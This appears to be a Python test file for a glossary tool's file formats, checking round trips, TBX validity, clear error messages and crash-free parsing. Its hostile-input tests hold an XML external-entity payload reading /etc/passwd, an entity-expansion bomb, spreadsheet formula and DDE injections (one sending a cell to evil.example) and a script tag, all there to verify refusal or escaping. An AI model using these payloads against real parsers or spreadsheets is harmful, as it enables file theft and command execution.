"""Every format: round trips of random glossaries, TBX validity, hostile input, typed reading."""

from __future__ import annotations

import contextlib
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from glossary import formats
from glossary.errors import InputError
from glossary.formats import Options, Sort
from glossary.formats.records import neutralise, restore
from glossary.glossary import Glossary
from glossary.model import Direction, Kind, Occurrence, Status, Term

ROOT = Path(__file__).resolve().parents[1]
#: ../shared beside the repository (CI); in a developer's worktree, the machine's copy.
SHARED = next(
    (p for p in (ROOT.parent / "shared", Path("/work/shared")) if (p / "tools").is_dir()),
    ROOT.parent / "shared",
)
VALIDATOR = SHARED / "tools" / "validate_tbx.py"
ASTRONOMY = SHARED / "schemas" / "tbx" / "Example_Astronomy_DCA_VALID.tbx"

# -- strategies ---------------------------------------------------------------------------

#: Any character a text file can hold; a CR is read back as a line break (see docs/formats.md).
ANY = st.characters(codec="utf-8", exclude_characters="\r")
#: Characters XML 1.0 can hold (TBX, XLSX), CR excepted for the same reason.
XML = st.characters(
    codec="utf-8",
    exclude_characters="\r\ufffe\uffff",
    exclude_categories=("Cc", "Cs"),
) | st.sampled_from("\t\n")


def _terms(alphabet: st.SearchStrategy[str], sources: bool = True) -> st.SearchStrategy[Term]:
    text = st.text(alphabet, max_size=12)
    source = st.text(alphabet, min_size=1, max_size=10).map(str.strip).filter(bool)
    occurrence = st.builds(
        lambda s, line: Occurrence(s, line, 0, 0, ""),
        source,
        st.integers(0, 10**6),
    )
    return st.builds(
        Term,
        english=text,
        chinese=text,
        traditional=text,
        pinyin=text,
        abbreviation=text,
        kind=st.sampled_from(Kind),
        given_pinyin=text,
        note=text,
        status=st.none() | st.sampled_from(Status),
        domain=text,
        occurrences=st.lists(occurrence, max_size=3).map(tuple) if sources else st.just(()),
        confidence=st.none() | st.integers(0, 100).map(lambda n: n / 100),
    ).filter(lambda t: bool(t.english.strip() or t.chinese.strip()))


def _same(read: list[Term], written: list[Term], with_sources: bool = True) -> None:
    assert read == written
    assert [t.confidence for t in read] == [t.confidence for t in written]
    if with_sources:
        labels = [list(dict.fromkeys(o.sources_label for o in t.occurrences)) for t in read]
        assert labels == [
            list(dict.fromkeys(o.sources_label for o in t.occurrences)) for t in written
        ]


def _round_trip(terms: list[Term], fmt: str, folder: Path, **options: object) -> list[Term]:
    path = folder / f"glossary{formats.FORMATS[fmt].suffixes[0]}"
    formats.save(terms, path, options=Options(**options))  # type: ignore[arg-type]
    return formats.load(path)


SETTINGS = settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


@pytest.mark.parametrize("fmt", ["tsv", "json", "csv"])
@SETTINGS
@given(terms=st.lists(_terms(ANY), max_size=4))
def test_text_formats_round_trip_any_unicode(fmt: str, terms: list[Term], tmp_path: Path) -> None:
    """TSV, JSON and CSV give back every field of every term, sources included."""
    _same(_round_trip(terms, fmt, tmp_path), terms)


@pytest.mark.parametrize("fmt", ["xlsx", "tbx"])
@SETTINGS
@given(terms=st.lists(_terms(XML), max_size=4))
def test_xml_formats_round_trip_any_unicode(fmt: str, terms: list[Term], tmp_path: Path) -> None:
    """XLSX and TBX give back every field of every term (any character XML can hold)."""
    _same(_round_trip(terms, fmt, tmp_path), terms)


OMEGAT_TEXT = st.text(
    st.characters(codec="utf-8", exclude_categories=("Cc", "Cs", "Zl", "Zp")), max_size=10
).map(str.strip)


@pytest.mark.parametrize("direction", list(Direction))
@SETTINGS
@given(
    terms=st.lists(
        st.builds(
            Term,
            english=OMEGAT_TEXT.filter(lambda s: s and not s.startswith("#")),
            chinese=OMEGAT_TEXT.filter(lambda s: s and not s.startswith("#")),
            traditional=OMEGAT_TEXT.filter(lambda s: "; " not in s),
            pinyin=OMEGAT_TEXT.filter(lambda s: "; " not in s),
            note=OMEGAT_TEXT,
        ),
        max_size=4,
    )
)
def test_omegat_round_trips_what_it_can_hold(
    direction: Direction, terms: list[Term], tmp_path: Path
) -> None:
    """OmegaT keeps both terms, pinyin, traditional and note, in either direction."""
    _same(_round_trip(terms, "omegat", tmp_path, direction=direction), terms, with_sources=False)


def test_omegat_direction_puts_the_chosen_language_first() -> None:
    """zh-en puts the Chinese in the source column; the comment holds pinyin and traditional."""
    term = Term("subversion", "颠覆", "顛覆", "diānfù", note="law")
    text = formats.dumps([term], "omegat", Options(direction=Direction.ZH_EN))
    assert text.splitlines()[1].split("\t") == [
        "颠覆",
        "subversion",
        "pinyin: diānfù; traditional: 顛覆; note: law",
    ]


def test_omegat_reads_a_headerless_file_by_script() -> None:
    """A hand-made OmegaT file without our header: Chinese first means zh-en."""
    from glossary.formats import omegat

    [a, b] = omegat.read("# my glossary\n颠覆\tsubversion\n\nnuclear sharing\t核共享\tdraft\n", "g")
    assert (a.english, a.chinese, b.english, b.chinese, b.note) == (
        "subversion",
        "颠覆",
        "nuclear sharing",
        "核共享",
        "draft",
    )


# -- TBX ----------------------------------------------------------------------------------


def test_tbx_of_the_shipped_glossary_validates(tmp_path: Path) -> None:
    """TBX output passes the core RelaxNG schema and the TBX-Basic Schematron."""
    out = tmp_path / "terms.tbx"
    terms = list(Glossary.default().terms)
    terms[0] = terms[0].replace(status=Status.DEPRECATED, domain="law", note="<b>&</b>")
    formats.save(terms, out)
    done = subprocess.run(
        [sys.executable, str(VALIDATOR), str(out)], capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stdout + done.stderr
    assert "valid TBX-Basic" in done.stdout


def test_tbx_imports_the_official_example() -> None:
    """The official TBX-Basic example imports: each English term (synonyms too) with its own
    status, the subject field, notes and definitions with their white space collapsed."""
    terms = formats.load(ASTRONOMY)
    assert len(terms) >= 40
    first, synonym = terms[0], terms[1]
    assert (first.english, first.status, first.domain) == (
        "open cluster",
        Status.PREFERRED,
        "General",
    )
    assert (synonym.english, synonym.status) == (
        "galactic cluster",
        Status.DEPRECATED,
    )  # superseded
    assert first.note == (
        "G-Source: http://www.physics.drexel.edu/observatory/dump.shtml; "
        "A group of stars formed together in the spiral arms of a galaxy."
    )
    assert all(t.english and not t.chinese for t in terms)


TBX_V2 = """<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE martif SYSTEM "TBXcoreStructV02.dtd">
<martif type="TBX" xml:lang="en">
<martifHeader><fileDesc><sourceDesc><p>Translate Toolkit</p></sourceDesc></fileDesc></martifHeader>
<text><body>
<termEntry id="e1">
  <descrip type="subjectField">law</descrip>
  <langSet xml:lang="en"><tig><term>subversion</term>
    <termNote type="administrativeStatus">preferredTerm-admn-sts</termNote></tig></langSet>
  <langSet xml:lang="zh-CN"><tig><term>颠覆</term></tig></langSet>
  <langSet xml:lang="zh-TW"><ntig><termGrp><term>顛覆</term></termGrp></ntig></langSet>
  <note>from the 2024 white paper</note>
</termEntry>
</body></text></martif>
"""


def test_tbx_v2_martif_imports(tmp_path: Path) -> None:
    """TBX v2 (martif, tig and ntig, zh-CN/zh-TW) imports, its DOCTYPE not fetched."""
    path = tmp_path / "old.tbx"
    path.write_text(TBX_V2, encoding="utf-8")
    [t] = formats.load(path)
    assert (t.english, t.chinese, t.traditional, t.status, t.domain, t.note) == (
        "subversion",
        "颠覆",
        "顛覆",
        Status.PREFERRED,
        "law",
        "from the 2024 white paper",
    )


EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE tbx [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<tbx xmlns="urn:iso:std:iso:30042:ed-2" type="TBX-Basic" style="dca"><text><body>
<conceptEntry id="c1"><langSec xml:lang="en"><termSec><term>&secret;</term></termSec></langSec>
</conceptEntry></body></text></tbx>
"""

BOMB = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">'
        for i in range(1, 10)
    )
    + ']>\n<tbx><text><body><conceptEntry id="c1"><langSec xml:lang="en"><termSec>'
    "<term>&lol9;</term></termSec></langSec></conceptEntry></body></text></tbx>\n"
)


@pytest.mark.parametrize("text", [EXTERNAL_ENTITY, BOMB], ids=["external-entity", "entity-bomb"])
def test_tbx_refuses_entities(text: str, tmp_path: Path) -> None:
    """An external entity or an entity-expansion bomb is refused with one line, nothing read."""
    path = tmp_path / "hostile.tbx"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(InputError) as info:
        formats.load(path)
    assert "refused" in str(info.value)
    assert "root:" not in str(info.value)


def test_tbx_and_xlsx_name_a_character_xml_cannot_hold() -> None:
    """A control character is an error naming the entry and field, not a broken file."""
    for fmt in ("tbx", "xlsx"):
        with pytest.raises(InputError, match=r"entry 1 .*note holds U\+0007"):
            formats.encode([Term("subversion", "颠覆", note="bell\x07")], fmt)


# -- hostile glossaries -------------------------------------------------------------------

HOSTILE = Term(
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "颠覆",
    "顛覆",
    "diānfù",
    note="<script>alert(1)</script>",
    domain="@SUM(1+1)*cmd|' /C calc'!A0",
)


def test_csv_neutralises_formulas() -> None:
    """Every CSV cell that a spreadsheet would run starts with an apostrophe."""
    import csv
    import io

    text = formats.dumps([HOSTILE], "csv")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    cells = [c for row in rows[1:] for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert rows[1][0].startswith("'=HYPERLINK")
    assert formats.FORMATS["csv"].read(text, "t.csv") == [HOSTILE]  # type: ignore[misc]


def test_xlsx_holds_no_formula(tmp_path: Path) -> None:
    """XLSX cells are text (never formulas), neutralised, and read back as written."""
    from openpyxl import load_workbook

    path = tmp_path / "hostile.xlsx"
    formats.save([HOSTILE], path)
    sheet = load_workbook(path).worksheets[0]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value]
    assert all(c.data_type == "s" for c in cells)
    assert not [c.value for c in cells if str(c.value)[:1] in "=+-@"]
    assert sheet.freeze_panes == "A2"
    assert formats.load(path) == [HOSTILE]


def test_markup_is_escaped_in_json_markdown_and_tbx() -> None:
    """<script> in a note never reaches JSON, Markdown or TBX as markup."""
    for fmt in ("json", "md", "tbx"):
        data = formats.encode([HOSTILE], fmt)
        assert b"<script>" not in data, fmt
    assert json.loads(formats.dumps([HOSTILE], "json"))["terms"][0]["note"] == HOSTILE.note
    row = formats.dumps([Term("a|b", "颠覆", note="*x* [l](http://e)")], "md").splitlines()[2]
    assert row.count(" | ") == 5  # the pipe in the term does not add a column


@pytest.mark.parametrize(
    "cell", ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "'=1", "''+x", "'plain", "plain", ""]
)
def test_neutralising_is_reversible(cell: str) -> None:
    """restore(neutralise(x)) == x, and the result never starts like a formula."""
    assert restore(neutralise(cell)) == cell
    assert neutralise(cell)[:1] not in ("=", "+", "-", "@", "\t", "\r")


# -- files as people edit them ------------------------------------------------------------


def test_tsv_as_people_edit_it(tmp_path: Path) -> None:
    """Headers in any case, spreadsheet quoting, two columns, comments, trailing tabs."""
    path = tmp_path / "mine.tsv"
    path.write_text(
        'English\tChinese\tNOTE\n# a comment\n"subversion"\t颠覆\t"said ""no"""\t\t\n'
        '"#1 priority"\t头等大事\t\n',
        encoding="utf-8",
    )
    terms = formats.load(path)
    assert [(t.english, t.chinese, t.note) for t in terms] == [
        ("subversion", "颠覆", 'said "no"'),
        ("#1 priority", "头等大事", ""),
    ]


def test_csv_with_semicolons_and_named_columns(tmp_path: Path) -> None:
    """A CSV saved by Excel in a ; locale, with word headers, reads."""
    path = tmp_path / "excel.csv"
    path.write_text("\ufeffEnglish;Chinese;Pinyin\nsubversion;颠覆;diānfù\n", encoding="utf-8")
    [t] = formats.load(path)
    assert (t.english, t.chinese, t.pinyin) == ("subversion", "颠覆", "diānfù")


def test_source_with_semicolon_survives_tsv(tmp_path: Path) -> None:
    """A source file named 'a; b:7.txt' comes back from TSV as one source."""
    term = Term("subversion", "颠覆", occurrences=(Occurrence("a; b:7.txt", 3, 0, 0, "x"),))
    [back] = _round_trip([term], "tsv", tmp_path)
    assert [(o.source, o.line) for o in back.occurrences] == [("a; b:7.txt", 3)]


# -- typed reading: every bad file is one clear error ----------------------------------------


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (
            "english\tchinese\ttraditional\tpinyin\tabbreviation\tkind\n"
            "subversion\t颠覆\t\t\t\tslogan\n",
            "kind 'slogan' is not one of",
        ),
        (
            "english\tchinese\ttraditional\tpinyin\tabbreviation\tkind\tgiven_pinyin\tstatus\n"
            "subversion\t颠覆\t\t\t\t\t\tgood\n",
            "status 'good' is not one of",
        ),
        ("english\tchinese\tkind\tconfidence\nsubversion\t颠覆\t\thigh\n", "confidence 'high'"),
        ("english\tchinese\nsubversion\t颠覆\tstray\n", "3 fields but the header names 2"),
    ],
    ids=["kind", "status", "confidence", "stray-cell"],
)
def test_tsv_errors_name_the_real_problem(text: str, message: str, tmp_path: Path) -> None:
    """A bad TSV row is reported for what is wrong with it, on its line, by both readers
    (glossary.py's fast reader checks kind and status, not confidence)."""
    path = tmp_path / "bad.tsv"
    path.write_text(text, encoding="utf-8")
    loaders = (formats.load,) if "confidence" in message else (formats.load, Glossary.load)
    for load in loaders:
        with pytest.raises(InputError) as info:
            load(path)
        assert message in info.value.what, load
        assert info.value.line == 2


def test_reordered_header_error_through_glossary_load(tmp_path: Path) -> None:
    """Glossary.load names an unknown kind even when the columns are in another order."""
    path = tmp_path / "bad.tsv"
    path.write_text("english\tchinese\tkind\nsubversion\t颠覆\tslogan\n", encoding="utf-8")
    with pytest.raises(InputError, match="kind 'slogan'"):
        Glossary.load(path)


def test_tsv_odd_cells_are_data_not_tracebacks(tmp_path: Path) -> None:
    """Blank rows are skipped; a line that is not 0-9 digits is part of the file name."""
    path = tmp_path / "odd.tsv"
    path.write_text(
        "english\tchinese\tsources\n\t\t\n \t \nsubversion\t颠覆\ta.txt:²; b.txt:7\n",
        encoding="utf-8",
    )
    for load in (formats.load, Glossary.load):
        [t] = list(load(path))
        assert [(o.source, o.line) for o in t.occurrences] == [("a.txt:²", 0), ("b.txt", 7)]


def _json(terms: str) -> str:
    return '{"format": "glossary", "version": 1, "terms": ' + terms + "}"


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (_json('[{"english": "x", "chinese": ["颠", "覆"]}]'), 'terms[0]: "chinese" must be text'),
        (_json('[{"english": "x", "chinese": NaN}]'), "NaN is not a number JSON allows"),
        (_json('[{"english": NaN, "chinese": "颠覆"}]'), "NaN"),
        (
            _json('[{"english": "x", "occurrences": [{"source": "a", "line": 1e400}]}]'),
            'terms[0].occurrences[0]: "line" must be a whole number',
        ),
        (
            _json('[{"english": "x", "occurrences": [{"line": ' + "9" * 5000 + "}]}]"),
            "more than 4300 digits",
        ),
        (
            _json('[{"english": "x", "occurrences": [{"source": ["a"], "line": 1}]}]'),
            '"source" must be text, not a list',
        ),
        (
            _json('[{"english": "x", "occurrences": [{"source": 7, "line": 1}]}]'),
            '"source" must be text, not a number',
        ),
        ("[" * 100_000 + "]" * 100_000, "nested too deeply"),
        (_json('[{"english": "x", "kind": 3}]'), '"kind" must be text'),
        (_json('{"english": "x"}'), "no 'terms' list"),
    ],
    ids=[
        "list-for-string",
        "nan-chinese",
        "nan-english",
        "line-1e400",
        "line-5000-digits",
        "source-list",
        "source-number",
        "nesting",
        "kind-number",
        "terms-not-list",
    ],
)
def test_json_errors_name_the_path(text: str, message: str, tmp_path: Path) -> None:
    """A wrong type in JSON is one error naming where it is, never text made of it."""
    path = tmp_path / "bad.json"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(InputError) as info:
        Glossary.load(path)
    assert message in str(info.value)


# -- the registry and the format rule -----------------------------------------------------


def test_suffix_decides_and_format_overrides() -> None:
    """The suffix names the format, a name given wins, an unknown suffix lists them all."""
    assert [formats.format_for(p) for p in ("a.TSV", "b.json", "c.csv", "d.utf8", "e.tbx")] == [
        "tsv",
        "json",
        "csv",
        "omegat",
        "tbx",
    ]
    assert formats.format_for("a.json", "csv") == "csv"
    with pytest.raises(InputError) as info:
        formats.format_for("terms.docx")
    assert "'.docx'" in info.value.what
    for name in formats.FORMATS:
        assert name in info.value.todo


def test_sort_orders() -> None:
    """English ignores case and quotes; pinyin goes syllable, tone, characters; source by file."""
    terms = [
        Term("“Zeal”", "热忱", pinyin="rèchén", occurrences=(Occurrence("b.txt", 1, 0, 0, ""),)),
        Term("dark", "暗", pinyin="àn", occurrences=(Occurrence("a.txt", 9, 0, 0, ""),)),
        Term("safety", "安", pinyin="ān", occurrences=(Occurrence("a.txt", 2, 0, 0, ""),)),
        Term("apple", "苹果", pinyin="píngguǒ"),
    ]
    english = [t.english for t in formats.sort_terms(terms, Sort.ENGLISH)]
    pinyin = [t.english for t in formats.sort_terms(terms, Sort.PINYIN)]
    source = [t.english for t in formats.sort_terms(terms, Sort.SOURCE)]
    assert english == ["apple", "dark", "safety", "“Zeal”"]
    assert pinyin == ["safety", "dark", "apple", "“Zeal”"]
    assert source == ["safety", "dark", "“Zeal”", "apple"]


def test_import_glossary_does_not_load_format_libraries() -> None:
    """openpyxl, defusedxml and weasyprint load only when a format needs them."""
    code = (
        "import sys, glossary, glossary.formats; "
        "print(sorted(m for m in ('openpyxl', 'defusedxml', 'weasyprint') if m in sys.modules))"
    )
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True, env=os.environ
    )
    assert done.stdout.strip() == "[]"


def test_txt_with_a_tsv_header_is_read_as_tsv(tmp_path: Path) -> None:
    """A glossary TSV saved as .txt (the old default) still reads as TSV, not as OmegaT."""
    path = tmp_path / "terms.txt"
    path.write_text("english\tchinese\tnote\nsubversion\t颠覆\tlaw\n", encoding="utf-8")
    [t] = formats.load(path)
    assert (t.english, t.chinese, t.note) == ("subversion", "颠覆", "law")


# -- any input: a glossary or one clear error, never a traceback ------------------------------

_TBX_SEED = formats.encode([Term("subversion", "颠覆", "顛覆", "diānfù", note="n")], "tbx")
_XLSX_SEED = formats.encode([Term("subversion", "颠覆")], "xlsx")


def _mutate(seed: bytes) -> st.SearchStrategy[bytes]:
    """``seed`` with a slice replaced by random bytes (keeps most of the structure)."""
    return st.tuples(st.integers(0, len(seed)), st.integers(0, 64), st.binary(max_size=32)).map(
        lambda c: seed[: c[0]] + c[2] + seed[c[0] + c[1] :]
    )


@settings(max_examples=60, deadline=None)
@given(
    data=st.binary(max_size=300)
    | _mutate(_TBX_SEED)
    | _mutate(b'<?xml version="1.0" encoding="x-unknown"?><tbx/>')
    | _mutate(_XLSX_SEED)
)
def test_binary_readers_never_crash(data: bytes) -> None:
    """TBX and XLSX readers give terms or an InputError for any bytes."""
    for fmt in ("tbx", "xlsx"):
        reader = formats.FORMATS[fmt].read
        assert reader is not None
        with contextlib.suppress(InputError):
            reader(data, f"x.{fmt}")


@settings(max_examples=80, deadline=None)
@given(
    text=st.text(st.characters(codec="utf-8"), max_size=200)
    | st.text(st.sampled_from('\t\n"#;,:\\{}[]0123456789enchis '), max_size=200).map(
        lambda t: "english\tchinese\tsources\tkind\n" + t
    )
)
def test_text_readers_never_crash(text: str) -> None:
    """TSV, JSON, CSV and OmegaT readers give terms or an InputError for any text."""
    for fmt in ("tsv", "json", "csv", "omegat"):
        reader = formats.FORMATS[fmt].read
        assert reader is not None
        with contextlib.suppress(InputError):
            reader(text, f"x.{fmt}")
